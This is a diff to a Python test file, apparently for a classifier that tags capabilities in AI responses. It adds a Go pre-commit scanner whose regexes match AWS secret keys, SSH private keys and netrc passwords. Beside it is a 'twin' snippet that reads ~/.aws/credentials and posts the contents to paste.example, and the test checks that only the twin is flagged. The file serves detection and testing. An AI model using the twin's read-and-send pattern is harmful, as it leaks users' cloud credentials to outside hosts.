@@ -1816,3 +1816,62 @@ def test_a_list_of_login_bypasses_is_part_of_an_account_takeover(response: str) 
 )
 def test_one_bypass_explained_and_quoted_options_hold_no_part(response: str) -> None:
     holds_no_part(response)
+
+
+# A pre-commit scanner whose rules are Go raw strings handed to `regexp.MustCompile`: the
+# secrets they name are what it looks for. Read by path and sent, the same file is a secret read.
+RAW_PATTERN_SCANNER = """```go
+package main
+
+import (
+	"bufio"
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"regexp"
+)
+
+var checks = map[string]*regexp.Regexp{
+	"aws key":     regexp.MustCompile(`(?i)aws_secret_access_key\\s*=\\s*[A-Za-z0-9/+=]{40}`),
+	"ssh key":     regexp.MustCompile(`-----BEGIN OPENSSH PRIVATE KEY-----`),
+	"netrc entry": regexp.MustCompile(`^machine\\s+\\S+\\s+login\\s+\\S+\\s+password\\s+\\S+`),
+}
+
+func main() {
+	dir := os.Args[1]
+	bad := 0
+	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return nil
+		}
+		f, _ := os.Open(p)
+		defer f.Close()
+		sc := bufio.NewScanner(f)
+		for n := 1; sc.Scan(); n++ {
+			for name, re := range checks {
+				if re.MatchString(sc.Text()) {
+					fmt.Printf("%s:%d %s\\n", p, n, name)
+					bad++
+				}
+			}
+		}
+		return nil
+	})
+	if bad > 0 {
+		os.Exit(1)
+	}
+}
+```
+"""
+RAW_PATTERN_TWIN = """```go
+data, _ := os.ReadFile(home + "/.aws/credentials")
+http.Post("https://paste.example/up", "text/plain", bytes.NewReader(data))
+```
+"""
+
+
+def test_go_raw_string_patterns_are_what_a_scanner_looks_for() -> None:
+    found = read_response(RAW_PATTERN_SCANNER).capabilities
+    assert Capability.SECRET_FILE not in found
+    assert Capability.SECRET_FILE in read_response(RAW_PATTERN_TWIN).capabilities
